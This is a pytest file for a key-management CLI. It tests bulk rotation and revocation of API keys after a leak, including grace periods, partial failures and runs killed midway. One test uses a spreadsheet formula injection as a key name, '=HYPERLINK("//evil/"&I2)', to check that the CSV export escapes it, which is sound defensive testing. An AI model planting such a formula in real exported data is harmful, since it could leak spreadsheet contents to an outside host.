"""After a leak: all keys rotated or revoked, and nothing lost by whatever comes in between."""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import signal
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing, suppress
from datetime import datetime, timedelta
from pathlib import Path
from sqlite3 import connect
from typing import Any

import pytest
import typer

from keysmith import (
    CreatedKey,
    Engine,
    InvalidKeyError,
    KeyCreate,
    KeyExpiredError,
    KeyRevokedError,
    KeySuspendedError,
    SqliteStore,
)
from keysmith.cli.new_keys import NewKeysFile
from keysmith.cli.sweep import Sweep
from tests.adversity import limited
from tests.command_line import Run, Template
from tests.conftest import TurnableClock
from tests.test_cli_process import KEYSMITH, _heed_interrupts, environment

COUNT = 200


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def works(engine: Engine, raw_key: str) -> bool:
    try:
        engine.validate_key(raw_key, ip="10.0.0.1")
    except (InvalidKeyError, KeyExpiredError, KeyRevokedError):
        return False
    except KeySuspendedError:
        pass
    return True


@pytest.fixture
def opened(database: Path) -> Any:
    with Engine(SqliteStore(database)) as engine:
        yield engine


def now(engine: Engine) -> str:
    return engine.now().isoformat()


# ---------------------------------------------------------------------------- rotating


def test_all_keys_of_a_tenant_get_new_secrets(
    run: Run, tmp_path: Path, template: Template, opened: Engine
) -> None:
    path = tmp_path / "new.jsonl"
    line = "keys rotate-all --tenant default --by alice --yes --json --output"
    result = run(line, str(path))
    assert (result.exit_code, result.stderr) == (0, "")
    report = json.loads(result.stdout)
    assert datetime.fromisoformat(report.pop("before")) < opened.now()
    assert report == {"rotated": 2, "skipped": {}, "failed": [], "left": 0, "output": str(path)}
    assert path.stat().st_mode & 0o777 == 0o600
    assert {line["key"]["id"] for line in lines(path)} == {
        template.ids["main"],
        template.ids["office"],
    }
    for line in lines(path):
        assert works(opened, line["raw_key"])
        assert line["raw_key"] not in result.stdout
    assert not any(works(opened, raw_key) for raw_key in template.raw_keys.values())
    for name in ("main", "office"):
        [latest, *_] = opened.list_rotations(key_id=template.ids[name])
        assert (latest.reason, latest.rotated_by) == ("compromise", "alice")
        assert latest.grace_ends == latest.created_at
    assert not any(r.in_grace(opened.now()) for r in opened.list_rotations(tenant_id="default"))


def test_as_a_table_for_people(run: Run, tmp_path: Path, opened: Engine) -> None:
    opened.create_key(KeyCreate(name='=HYPERLINK("//evil/"&I2)', tenant_id="acme"))
    opened.revoke_key(opened.create_key(KeyCreate(name="gone", tenant_id="acme")).key.id)
    path = tmp_path / "new.csv"
    result = run("keys rotate-all --all-tenants --output", str(path), input="y\n")
    assert result.exit_code == 0
    assert "Their old secrets stop at once." in result.stderr
    assert "Rotate 4 keys of all tenants?" in result.stderr
    assert f"4 keys rotated; their raw keys are in {path}.\n" in result.stdout
    assert "1 key skipped: 1 revoked.\n" in result.stdout
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["name"] for row in rows] == [
        """'=HYPERLINK("//evil/"&I2)""",
        "asleep",
        "office",
        "main",
    ]
    assert rows[1]["state"] == "suspended"
    for row in rows:
        assert works(opened, row["raw_key"])
        key = opened.get_key(row["id"])
        assert (row["tenant_id"], row["app_id"]) == (key.tenant_id, key.app_id)
        assert row["rotated_at"][:19] == str(key.rotated_at).replace(" ", "T")[:19]


def test_only_an_app(run: Run, template: Template) -> None:
    result = run("keys rotate-all --tenant default --app web --dry-run --json")
    assert [key["id"] for key in json.loads(result.stdout)] == [template.ids["office"]]
    shown = run("keys revoke-all --tenant default --app web --dry-run").stdout
    assert template.ids["office"] in shown
    assert template.ids["main"] not in shown
    assert "no such keys" in run("keys revoke-all --tenant nobody --dry-run").stderr


def test_with_grace(run: Run, tmp_path: Path, template: Template, opened: Engine) -> None:
    path = tmp_path / "new.csv"
    line = "keys rotate-all --tenant default --grace 90m --output"
    result = run(line, str(path), input="y\n")
    assert result.exit_code == 0
    assert "Their old secrets go on working for 1:30:00." in result.stderr
    assert works(opened, template.raw_keys["main"])
    [latest] = opened.list_rotations(key_id=template.ids["main"])
    assert (latest.reason, latest.grace_ttl_ms) == ("manual", 5_400_000)


def test_without_grace_whatever_the_policy_says(
    run: Run, tmp_path: Path, template: Template, opened: Engine
) -> None:
    line = "keys rotate-all --tenant default --reason policy --yes --output"
    assert run(line, str(tmp_path / "new.csv")).exit_code == 0
    [latest, earlier] = opened.list_rotations(key_id=template.ids["office"])
    assert (latest.reason, latest.grace_ttl_ms) == ("policy", 0)
    assert earlier.in_grace(opened.now()), "only a compromise ends what was left before"


def test_secrets_from_after_the_leak_stay(
    run: Run, tmp_path: Path, template: Template, opened: Engine
) -> None:
    """A leaked one that still works because its owner rotated with grace does not."""
    leak = now(opened)
    newer = opened.create_key(KeyCreate(name="newer"))
    opened.rotate_key(newer.key.id)
    replaced = opened.rotate_key(template.ids["main"], grace=timedelta(0))
    opened.rotate_key(template.ids["office"])
    last = opened.rotate_key(template.ids["office"])
    line = f"keys rotate-all --tenant default --before {leak} --yes --json --output"
    first, second, third = (tmp_path / f"{n}.jsonl" for n in range(3))
    report = json.loads(run(line, str(first)).stdout)
    assert (report["rotated"], report["skipped"]) == (1, {"newer": 2})
    assert works(opened, newer.raw_key)
    assert works(opened, replaced.raw_key)
    assert not works(opened, template.raw_keys["office"])
    assert not works(opened, last.raw_key)
    report = json.loads(run(line, str(second)).stdout)
    assert (report["rotated"], report["skipped"]) == (0, {"newer": 3})
    assert not second.exists()
    # Who allows grace allows theirs, too.
    opened.rotate_key(template.ids["main"])
    line = f"keys rotate-all --tenant default --before {leak} --grace 1h --yes --json --output"
    assert json.loads(run(line, str(third)).stdout)["rotated"] == 0


# ---------------------------------------------------------------------------- what comes between


@pytest.mark.parametrize("name", ["there.csv", "none/new.csv"])
def test_a_file_that_cannot_be_made_changes_nothing(
    run: Run, tmp_path: Path, opened: Engine, name: str
) -> None:
    (tmp_path / "there.csv").write_text("mine")
    result = run("keys rotate-all --tenant default --yes --output", str(tmp_path / name))
    assert (result.exit_code, result.stdout) == (1, "")
    assert name in result.stderr
    assert (tmp_path / "there.csv").read_text() == "mine"
    assert opened.count_keys() == 3
    assert len(opened.list_rotations()) == 2


def test_not_confirmed(run: Run, tmp_path: Path, opened: Engine) -> None:
    path = tmp_path / "new.csv"
    for line in (f"rotate-all --output {path}", "revoke-all"):
        result = run(f"keys {line} --all-tenants", input="n\n")
        assert result.exit_code == 1
        assert "nothing was done" in result.stderr
    assert not path.exists()
    assert len(opened.list_rotations()) == 2
    assert opened.count_keys(state="revoked") == 0


def trigger(database: Path, key_id: str, action: str) -> None:
    with closing(connect(database)) as connection:
        connection.execute(
            "CREATE TRIGGER bad BEFORE UPDATE OF key_hash ON keysmith_keys "
            f"WHEN old.id = '{key_id}' BEGIN {action}; END"
        )


def test_a_key_that_cannot_be_rotated(
    run: Run, tmp_path: Path, database: Path, template: Template, opened: Engine
) -> None:
    trigger(
        database,
        template.ids["office"],
        "INSERT INTO keysmith_scopes SELECT * FROM keysmith_scopes",
    )
    path = tmp_path / "new.jsonl"
    before = now(opened)
    result = run("keys rotate-all --tenant default --yes --before", before, "--output", str(path))
    assert result.exit_code == 1
    assert f"{template.ids['office']} failed: " in result.stderr
    assert f"1 key left: go on with --before {before}." in result.stderr
    [line] = lines(path)
    assert line["key"]["id"] == template.ids["main"], "the others are rotated all the same"
    result = run("keys revoke-all --tenant default --yes --json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert [each["key_id"] for each in report["failed"]] == [template.ids["office"]]
    assert (report["revoked"], report["left"]) == (1, 0)


def test_a_store_that_fails_is_told_after_what_was_done(
    run: Run, tmp_path: Path, database: Path, template: Template, opened: Engine
) -> None:
    trigger(database, template.ids["main"], "SELECT RAISE(ABORT, 'no')")
    path = tmp_path / "new.jsonl"
    result = run("keys rotate-all --all-tenants --yes --json --output", str(path))
    assert result.exit_code == 3
    report = json.loads(result.stdout)
    assert (report["rotated"], report["left"], report["failed"]) == (2, 1, [])
    assert len(lines(path)) == 2
    assert works(opened, template.raw_keys["main"])


def test_somebody_else_was_at_it_meanwhile(
    run: Run, tmp_path: Path, database: Path, template: Template, opened: Engine
) -> None:
    """As keys are taken newest first, the newest one's trigger changes the others."""
    opened.revoke_key(opened.create_key(KeyCreate(name="old", tenant_id="acme")).key.id)
    newest = opened.create_key(KeyCreate(name="newest")).key.id
    main, office = template.ids["main"], template.ids["office"]
    trigger(
        database,
        newest,
        f"DELETE FROM keysmith_keys WHERE id = '{main}';"
        f"UPDATE keysmith_keys SET state = 'revoked' WHERE id = '{office}'",
    )
    path = tmp_path / "new.jsonl"
    result = run("keys rotate-all --all-tenants --yes --json --output", str(path))
    assert result.exit_code == 0
    report = json.loads(result.stdout)
    assert report["rotated"] == len(lines(path)) == 2
    assert report["skipped"] == {"deleted": 1, "revoked": 2}


def test_a_line_that_does_not_fit_is_taken_back(tmp_path: Path, engine: Engine) -> None:
    path = tmp_path / "new.jsonl"
    added: list[CreatedKey] = []
    with limited(resource.RLIMIT_FSIZE, 1500), NewKeysFile(path) as file:
        with pytest.raises(OSError, match="too large"):
            while True:
                created = engine.create_key(KeyCreate(name="n"))
                file.add(created)
                added.append(created)
    assert [line["raw_key"] for line in lines(path)] == [each.raw_key for each in added]


def test_what_was_skipped_as_expired_stays_so(engine: Engine, clock: TurnableClock) -> None:
    expires_at = clock.now + timedelta(hours=1)
    created, elsewhere = (
        engine.create_key(KeyCreate(name="n", tenant_id=tenant, expires_at=expires_at))
        for tenant in ("acme", "other")
    )
    clock.turn(hours=1)
    sweep = Sweep(engine, before=clock.now, ends_grace=True, tenant_id="acme")
    sweep.carry_out("revoked", engine.revoke_key, as_json=True)
    clock.turn(hours=-1)
    assert not works(engine, created.raw_key)
    assert works(engine, elsewhere.raw_key), "it is none of those that were asked for"


# ---------------------------------------------------------------------------- killed half way


@pytest.fixture
def many(tmp_path: Path) -> tuple[Path, list[str]]:
    """A database with many keys, and their raw keys."""
    path = tmp_path / "many.db"
    with Engine(SqliteStore(path)) as engine:
        engine.store.migrate()
        with engine.store.transaction():
            raw_keys = [engine.create_key(KeyCreate(name=str(n))).raw_key for n in range(COUNT)]
    return path, raw_keys


TO_BE_STOPPED = """
import time
from keysmith.cli import main
from keysmith.cli.new_keys import NewKeysFile
add, added = NewKeysFile.add, []
def slower_and_slower(file, created):
    add(file, created)
    added.append(created)
    if len(added) > 100:
        time.sleep(0.3)
NewKeysFile.add = slower_and_slower
main()
"""
"""The command; should whoever stops it be held up, it does not get to its end before."""


def start(database: Path, before: str, output: Path, *command: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [
            *(*command, "keys", "rotate-all", "--tenant", "default", "--yes", "--json"),
            *("--before", before, "--output", str(output)),
        ],
        env=environment(KEYSMITH_DATABASE_URL=f"sqlite:///{database}"),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=_heed_interrupts,  # noqa: PLW1509  there are no other threads
    )


def _kill(process: subprocess.Popen[str]) -> tuple[int, int | None]:
    process.kill()
    process.communicate(timeout=30)
    return -signal.SIGKILL, None


def _interrupt(process: subprocess.Popen[str]) -> tuple[int, int | None]:
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate(timeout=30)
    assert not stderr
    report = json.loads(stdout)
    assert report["rotated"] + report["left"] == COUNT
    return 130, report["rotated"]


@pytest.mark.parametrize("stop", [_kill, pytest.param(_interrupt, marks=pytest.mark.slow)])
def test_going_on_after_being_stopped(
    many: tuple[Path, list[str]],
    tmp_path: Path,
    stop: Callable[[subprocess.Popen[str]], tuple[int, int | None]],
) -> None:
    database, old = many
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    with Engine(SqliteStore(database)) as engine:
        before = now(engine)
        process = start(database, before, first, sys.executable, "-c", TO_BE_STOPPED)
        with closing(process.stdout), closing(process.stderr):  # type: ignore[arg-type, type-var]
            while not first.exists() or first.stat().st_size < 5_000:
                assert process.poll() is None, "stopped before the end"
            code, told = stop(process)
        assert process.returncode == code
        found = first.read_text().splitlines()
        issued = {}
        for number, line in enumerate(found):
            with suppress(ValueError):  # the last line may be half a one if it was killed
                document = json.loads(line)
                issued[document["key"]["id"]] = document["raw_key"]
                continue
            assert number == len(found) - 1
        in_force = [raw_key for raw_key in issued.values() if works(engine, raw_key)]
        assert len(in_force) >= len(issued) - 1, "one may not have been committed"
        assert told in (None, len(in_force))
        assert 0 < len(in_force) < COUNT
        assert sum(works(engine, raw_key) for raw_key in old) == COUNT - len(in_force)

        with start(database, before, second, KEYSMITH) as process:
            stdout, _ = process.communicate(timeout=60)
        report = json.loads(stdout)
        assert report["rotated"] == COUNT - len(in_force)
        assert report["skipped"] == {"newer": len(in_force)}
        for line in lines(second):
            issued[line["key"]["id"]] = line["raw_key"]
        assert len(issued) == COUNT
        assert all(works(engine, raw_key) for raw_key in issued.values())
        assert not any(works(engine, raw_key) for raw_key in old)
        assert len(engine.list_rotations()) == COUNT, "each was rotated once"


def test_an_interrupt_is_heeded_between_two_keys(
    opened: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    handler = signal.getsignal(signal.SIGINT)
    sweep = Sweep(opened, before=opened.now(), ends_grace=True, tenant_id=None)
    done = []

    def interrupt(key_id: str) -> None:
        os.kill(os.getpid(), signal.SIGINT)
        assert signal.getsignal(signal.SIGINT) is signal.SIG_DFL, "who asks twice need not wait"
        done.append(key_id)

    with pytest.raises(typer.Exit) as exited:
        sweep.carry_out("rotated", interrupt, as_json=False)
    assert exited.value.exit_code == 130
    assert signal.getsignal(signal.SIGINT) is handler
    assert done == sweep.key_ids[:1]
    told = capsys.readouterr()
    assert told.out == "1 key rotated.\n"
    assert told.err.startswith("2 keys left: go on with --before 2")


# ---------------------------------------------------------------------------- revoking


def test_revoking_all(run: Run, template: Template, opened: Engine) -> None:
    result = run("keys revoke-all --tenant default --reason leaked", input="y\n")
    assert result.exit_code == 0
    assert "Revoke 2 keys of the tenant default for good?" in result.stderr
    assert result.stdout == "2 keys revoked.\n"
    assert not any(works(opened, raw_key) for raw_key in template.raw_keys.values())
    assert opened.get_key(template.ids["asleep"]).state == "suspended"
    report = json.loads(run("keys revoke-all --tenant default --json").stdout)
    assert (report["revoked"], report["skipped"], "output" in report) == (0, {"revoked": 2}, False)


# ---------------------------------------------------------------------------- wrong usage


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("rotate-all --output x.csv", "--tenant, or --all-tenants"),
        ("revoke-all", "--tenant, or --all-tenants"),
        ("revoke-all --tenant a --all-tenants", "not both"),
        ("rotate-all --tenant a", "--output.*csv or .jsonl"),
        ("rotate-all --tenant a --output x.txt", "--output.*csv or .jsonl"),
        ("rotate-all --tenant a --dry-run --grace 1h --reason compromise", "leaves no grace"),
        ("rotate-all --tenant a --dry-run --before 2026-01-01", "--before.*time zone"),
        ("revoke-all --tenant a --before yesterday", "--before.*time zone"),
        ("revoke-all --tenant a --before 2999-01-01T00:00:00Z", "--before.*in the future"),
    ],
)
def test_wrong_usage(run: Run, line: str, message: str) -> None:
    result = run(f"keys {line} --json")
    assert (result.exit_code, result.stdout) == (2, "")
    error = json.loads(result.stderr)["error"]
    assert error["code"] == "usage"
    assert re.search(message, error["message"])
